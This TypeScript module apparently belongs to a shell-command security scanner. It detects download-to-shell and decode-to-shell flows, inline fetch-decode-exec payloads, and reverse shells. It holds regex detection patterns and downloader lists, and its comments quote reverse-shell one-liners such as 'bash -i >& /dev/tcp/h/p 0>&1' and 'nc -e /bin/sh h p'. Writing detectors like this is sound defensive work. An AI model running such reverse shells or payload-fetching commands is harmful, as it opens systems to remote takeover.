/** Matchers for the remote.exec pack: downloaded or decoded content that reaches a shell or interpreter. */
import type { Hit, Segment, Word } from '../shell-types.ts';
import { hasShort, isLong } from '../options.ts';
import { hitThrough, type RuleTest } from '../rule-types.ts';
import { codeConsumer, runsStdin, sourcesOf, spanning } from './output-flow.ts';
import { isSocket, NET_DEVICE } from './network.ts';

const DOWNLOADERS = new Set(['curl', 'wget', 'wget2', 'fetch', 'http', 'https', 'xh', 'xhs', 'aria2c', 'lwp-request', 'lynx', 'w3m']);

/** Inline code that fetches over the network. */
const FETCH_CODE =
  /\b(?:urlopen|urlretrieve|requests\.(?:get|post)|httpx\.(?:get|post|stream)|http\.client|fetch\s*\(|https?\.(?:get|request)\s*\(|Net::HTTP|open-uri|URI\.open|LWP::|HTTP::Tiny|getstore|curl_exec|file_get_contents\s*\(\s*['"]https?:)/;
/** Inline code that decodes an encoded payload. */
const DECODE_CODE =
  /\b(?:b64decode|b32decode|b85decode|a85decode|decodebytes|unhexlify|fromhex|decode_base64|base64_decode|decode64|strict_decode64|atob|gzinflate|str_rot13)\b|Buffer\.from\s*\([^)]*['"](?:base64|hex)['"]|unpack1?\s*\(?\s*['"][mH]|codecs\.decode/;
/** Inline code that executes a string. */
const EXEC_CODE =
  /\b(?:exec|eval|execfile|system|popen|subprocess|execSync|spawnSync|spawn|execFile|instance_eval|class_eval|module_eval|Function|runInThisContext|runInNewContext|create_function|passthru|shell_exec|proc_open)\b/;
/** Inline code that connects a socket to a shell (the classic one-line reverse shells). */
const SOCKET_SHELL = [/\bsocket\b/i, /\b(?:dup2|fdopen|pty\.spawn|IO\.popen)\b|<&|>&/, /(?:\/bin\/|\b)(?:ba|z|da)?sh\b|cmd\.exe|pty\.spawn/];

export function downloads(seg: Segment): boolean {
  if (seg.script) return FETCH_CODE.test(seg.text);
  if (DOWNLOADERS.has(seg.cmd) || isSocket(seg.cmd)) return true;
  if (seg.cmd === 'openssl') return seg.args[0]?.value === 's_client';
  return seg.redirects.some((r) => r.op[0] === '<' && NET_DEVICE.test(r.target?.value ?? ''));
}

const decodeFlag = (w: Word): boolean => hasShort(w.value, 'd', 'w') || hasShort(w.value, 'D', 'w') || isLong(w.value, 'decode', 1);

export function decodes(seg: Segment): boolean {
  if (seg.script) return DECODE_CODE.test(seg.text);
  const { cmd, args } = seg;
  if (cmd === 'base64' || cmd === 'base32' || cmd === 'basenc' || cmd === 'gbase64') return args.some(decodeFlag);
  if (cmd === 'xxd') return args.some((w) => w.value.startsWith('-r'));
  if (cmd === 'uudecode' || cmd === 'uudeview') return true;
  if (cmd === 'openssl') return args.some((w) => w.value === '-d' || w.value === '-decrypt' || w.value === '-base64d');
  // `python3 -m base64 -d`
  const module = args.findIndex((w) => w.value === '-m');
  return module >= 0 && /^(?:base64|uu|binascii|quopri)$/.test(args[module + 1]?.value ?? '') && args.some(decodeFlag);
}

function flowsIntoCode(seg: Segment, produces: (s: Segment) => boolean): Hit | null {
  if (!produces(seg)) return null;
  const consumer = codeConsumer(seg);
  return consumer ? spanning(seg, consumer) : null;
}

export const downloadToShell: RuleTest = (seg) => flowsIntoCode(seg, downloads);

export const decodeToShell: RuleTest = (seg) => flowsIntoCode(seg, decodes);

/** `exec(base64.b64decode(…))`, `eval(urlopen(u).read())` inside one inline script. */
export const inlinePayloadExec: RuleTest = (seg) => {
  if (!seg.script || seg.script === 'awk') return null;
  const exec = EXEC_CODE.exec(seg.text);
  if (!exec || !(FETCH_CODE.test(seg.text) || DECODE_CODE.test(seg.text))) return null;
  return { start: seg.start + exec.index, end: seg.start + exec.index + exec[0].length };
};

function socketExec(seg: Segment): Word | undefined {
  if (seg.cmd === 'socat') return seg.args.find((w) => /^(?:exec|system):/i.test(w.value));
  return seg.args.find((w) => /^-[a-z]*[ec]$/.test(w.value) || isLong(w.value, 'exec', 2) || isLong(w.value, 'sh-exec', 2) || isLong(w.value, 'lua-exec', 2));
}

/** A shell wired to a network socket: `bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh h p`, `sh -i | nc h p`. */
export const reverseShell: RuleTest = (seg) => {
  if (seg.script) return SOCKET_SHELL.every((re) => re.test(seg.text)) ? { start: seg.start, end: seg.end } : null;
  const socket = seg.redirects.find((r) => NET_DEVICE.test(r.target?.value ?? ''))?.target;
  if (socket && (runsStdin(seg) || sourcesOf(seg).code.length > 0)) return hitThrough(seg, socket);
  if (!isSocket(seg.cmd)) return null;
  const exec = socketExec(seg);
  if (exec) return hitThrough(seg, exec);
  for (let p = seg.pipeIn ? seg.prev : undefined; p; p = p.pipeIn ? p.prev : undefined) if (runsStdin(p)) return spanning(p, seg);
  return null;
};
